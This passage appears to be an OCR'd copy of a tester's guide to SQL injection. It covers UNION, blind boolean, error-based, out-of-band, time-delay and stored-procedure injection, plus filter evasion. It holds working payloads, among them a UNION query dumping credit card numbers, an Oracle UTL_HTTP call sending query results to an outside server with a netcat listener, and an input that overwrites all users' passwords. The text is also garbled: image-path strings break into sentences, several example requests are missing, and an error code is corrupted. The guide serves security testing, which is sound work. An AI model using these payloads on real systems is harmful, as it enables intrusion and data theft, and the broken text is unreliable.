The UNION operator is used in SQL injections to join a query, purposely forged by the tester, to the original query. The result of the forged query will be joined to the result of the original query, allowing the tester to obtain the values of columns of other tables. Suppose for our examples that the queryexecuted from the server is the following:

SELECT Name, Phone, Address FROM Users WHERE Id=$id

We will set the following $id value:

$id=1 UNION ALL SELECT creditCardNumber,1,1 FROM CreditCardTable

We will have the following query:

SELECT Name, Phone, Address FROM Users WHERE Id=1 UNION ALL SELECT creditCardNumber,1,1 FROM CreditCardTable

Which will join the result of the original query with all the credit card numbers in the CreditCardTable table. The keyword ALL is necessary to get around queries that use the keyword DISTINCT. Moreover, we notice that beyond the credit card numbers, we have selected two other values. These two values are necessary because the two queries must have an equal number of parameters/columns in order to avoid a syntax error.The first detail a tester needs to exploit the SQL injection vulnerability using such technique is to find the right numbers of columns in the SELECT statement.

In order to achieve this the tester can use ORDER BY clause followed by a number indicating the numeration of database’s column selected: ORDER BY 10--

If the query executes with success the tester can assume, in this example, there are 10 or more columns in the SELECT statement. If the query fails then there must be fewer than 10 columns returned by the query. If there is an error message available, it would probably be:

Unknown column '10' in 'order clause'

After the tester finds out the numbers of columns, the next step is to find out the type of columns. Assuming there were 3 columns in the example above, the tester could try each column type, using the NULL value to help them: UNION SELECT 1,null,null--

If the query fails, the tester will probably see a message like:

All cells in a column must have the same datatype

If the query executes with success, the first column can be an integer. Then the tester can move further and so on: UNION SELECT 1,1,null--

After the successfulinformation gathering, depending on the application, it may only show the tester the first result, because the application treats only the first line of the result set. In this case, it is possible to use a LIMIT clause or the tester can set an invalid value, making only the second query valid (supposing there is no entry in the database which ID is 99999): UNION SELECT 1,1,null--

Boolean Exploitation Technique

The Boolean exploitation technique is very useful when the tester finds a Blind SQL Injection situation, in which nothing is known on the outcome of an operation. For example, this behavior happens in cases where the programmer has created a custom error page that does not reveal anything on the structure of the query or on the database. (The page does not return a SQL error, it may just return a HTTP 500, 404, or redirect).

By using inference methods, it is possible to avoid this obstacle and thus to succeed in recovering the values of some desired fields. This method consists of carrying out a series of boolean queries against the server, observing the answers and finally deducing the meaning of such answers. We consider, as always, the domain and we suppose that it contains a parameter named id vulnerable to SQL injection. This means that carrying out the following request:'

We will get one page with a custom message error which is due to a syntactic errorin the query. We suppose that the query executed on the server is:

SELECT field1, field2, field3 FROM Users WHERE Id='$Id'

Which is exploitable through the methods seen previously. What we want to obtain is the values of the username field. The tests that we will execute will allow us to obtain the value of the username field, extracting such value character by character. This is possible through the use of some standard functions, present in practically every database. For our examples, we will use the following pseudo-functions:

  • SUBSTRING (text, start, length): returns a substring starting from the position “start” of text and of length “length”. If “start” is greater than the length of text, the function returns a null value.

  • ASCII (char): it gives back ASCII value of the input character. A null value is returned if char is 0.

  • LENGTH (text): it gives back the number of characters in the input text.

Through such functions, we will execute our tests on the first character and, when we have discovered the value, we will pass to the second and so on, until we will have discovered the entire value. The tests will take advantage of the function SUBSTRING, in order to select only one character at a time (selecting a single character means to impose the length parameter to 1), and the function ASCII, in order to obtain the ASCII value, so that we can do numerical comparison. The results of the comparison will be done with all the values of the ASCII table, until the right value isfound. As an example, we will use the following value for Id:

$Id=1' AND ASCII(SUBSTRING(username,1,1))=97 AND '1'='1

That creates the following query (from now on, we will call it “inferential query”):

SELECT field1, field2, field3 FROM Users WHERE Id='1' AND ASCII(SUBSTRING(username,1,1))=97 AND '1'='1'

The previous example returns a result if and only if the first character of the field username is equal to the ASCII value 97. If we get a false value, then we increase the index of the ASCII table from 97 to 98 and we repeat the request. If instead we obtain a true value, we set to zero the index of the ASCII table and we analyze the next character, modifying the parameters of the SUBSTRING function. The problem is to understand in which way we can distinguish tests returning a true value from those that return false. To do this, we create a query that always returns false. This is possible by using the following value for Id:

$Id=1' AND '1' = '2

Which will create the following query:

SELECT field1, field2, field3 FROM Users WHERE Id='1' AND '1' = '2'

The obtained response from the server (that is HTML code) willbe the false value for our tests. This is enough to verify whether the value obtained from the execution of the inferential query is equal to the value obtained with the test executed before. Sometimes, this method does not work. If the server returns two different pages as a result of two identical consecutive web requests, we will not be able to discriminate the true value from the false value. In these particular cases, it is necessary to use particular filters that allow us to eliminate the code that changes between the two requests and to obtain a template. Later on, for every inferential request executed, we will extract the relative template from the response using the same function, and we will perform a control between the two templates in order to decide the result of the test.

In the previous discussion, we haven’t dealt with the problem of determining the termination condition for our tests, i.e., when we should end the inference procedure. A techniques to do this uses one characteristic of the SUBSTRING function and the LENGTH function. When the test compares the current character with the ASCII code 0 (i.e., the value null) and the test returns the value true, then either we are done with the inference procedure (we have scanned the whole string), or the value we have analyzed contains the null character.

We will insert the following value for the field Id:

$Id=1' ANDLENGTH(username)=N AND '1' = '1

Where N is the number of characters that we have analyzed up to now (not counting the null value). The query will be:

SELECT field1, field2, field3 FROM Users WHERE Id='1' AND LENGTH(username)=N AND '1' = '1'

The query returns either true or false. If we obtain true, then we have completed the inference and, therefore, we know the value of the parameter. If we obtain false, this means that the null character is present in the value of the parameter, and we must continue to analyze the next parameter until we find another null value.

The blind SQL injection attack needs a high volume of queries. The tester may need an automatic tool to exploit the vulnerability.

Error Based Exploitation TechniqueAn Error based exploitation technique is useful when the tester for some reason can’t exploit the SQL injection vulnerability using other technique such as UNION. The Error based technique consists in forcing the database to perform some operation in which the result will be an error. The point here is to try to extract some data from the database and show it in the error message. This exploitation technique can be different from DBMS to DBMS (check DBMS specific section).

Consider the following SQL query:

SELECT * FROM products WHERE id_product=$id_product

Consider also the request to a script whoexecutes the query above:

The malicious request would be (e.g. Oracle 10g):||UTL_INADDR.GET_HOST_NAME( (SELECT user FROM DUAL) )--

In this example, the tester is concatenating the value 10 with the result of the function UTL_INADDR.GET_HOST_NAME. This Oracle function will try to return the hostname of the parameter passed to it, which is other query, the name of the user. When the database looks for a hostname with the user database name, it will fail and return an error message like:

ORA-292257: host SCOTT unknown

Then the tester can manipulate the parameter passed to GET_HOST_NAME() function and the result will be shown in the error message.

Out of Band Exploitation Technique

This technique is very useful when the tester find a Blind SQL Injection situation, in which nothing is known on the outcome of an operation. The technique consists of the use of DBMS functions to perform an out of band connection and deliver the results of the injected query as part of the request to the tester’s server. Like the error based techniques, each DBMS has its own functions. Check for specific DBMS section.

Consider the following SQL query:

SELECT * FROM products WHERE id_product=$id_product

Consider also the request to ascript who executes the queryabove:

The malicious request would be:||UTL_HTTP.request(‘’||(SELECT user FROM DUAL)--

In this example, the tester is concatenating the value 10 with the result of the function UTL_HTTP.request. This Oracle function will try to connect to testerserver and make a HTTP GET request containing the return from the query SELECT user FROM DUAL. The tester can set up a webserver (e.g. Apache) or use the Netcat tool:

/home/tester/nc –nLp 80

Connection: close

Time Delay Exploitation Technique

The time delay exploitation technique is very useful when the tester find a Blind SQL Injection situation, in which nothing is known on the outcome of an operation. This technique consists in sending an injected query and in case the conditional is true, the tester can monitor the time taken to for the server to respond. If there is a delay, the tester can assume the result of the conditional query is true. This exploitation technique can be different from DBMS to DBMS (check DBMS specific section).

Consider the following SQL query:

SELECT * FROM products WHERE id_product=$id_productConsider also the request to a script who executes the query above:

The malicious request would be (e.g. MySql 5.x): AND IF(version() like ‘5%’, sleep(10), ‘false’))--

In this example the tester is checking whether the MySql version is 5.x or not, making the server to delay the answer by 10 seconds. The tester can increase the delay time and monitor the responses. The tester also doesn’t need to wait for the response. Sometimes he can set a very high value (e.g. 100) and cancel the request after some seconds.

Stored Procedure Injection

When using dynamic SQL within a stored procedure, the application must properly sanitize the user input to eliminate the risk of code injection. If not sanitized, the user could enter malicious SQL that will be executed within the stored procedure.

Consider the following SQL Server Stored Procedure:

Create procedure user_login @username varchar(20), @passwd varchar(20)
Declare @sqlstring varchar(250)
Set @sqlstring  = ‘
Select 1 from users
Where username = ‘ + @username + ‘ and passwd = ‘ + @passwd

User input:

anyusername or 1=1'

This procedure does not sanitize the input, therefore allowing the return value to show an existing record with these parameters.

This example may seem unlikely due to the use of dynamic SQL to log in a user, but consider a dynamic reporting query where the user selects the columns to view. The user could insert malicious code into this scenario and compromise the data.

Consider the following SQL Server Stored Procedure:

procedure get_report @columnamelist varchar(7900)
Declare @sqlstring varchar(8000)
Set@sqlstring  = ‘
Select ‘ + @columnamelist + ‘ from ReportTable‘

User input:

1 from users; update users set password = 'password'; select *

This will result in the report running and all users’ passwords being updated.

Automated Exploitation

Most of the situation and techniques presented here can be performed in a automated way using some tools. In this article the tester can find information how to perform an automated auditing using SQLMap

SQL Injection Signature Evasion Techniques

The techniques are used to bypass defenses such as Web application firewalls (WAFs) or intrusion prevention systems (IPSs). Also refer to


Dropping space or adding spaces that won’t affect the SQL statement. For example

or 'a'='a'

or 'a'  =    'a'

Adding special character like new line or tab that won’t change the SQL statement execution. For example,Null Bytes

Use null byte (%00) prior to any characters that the filter is blocking.

For example, if the attacker may inject the following SQL

' UNION SELECT password FROM Users WHERE username='admin'--

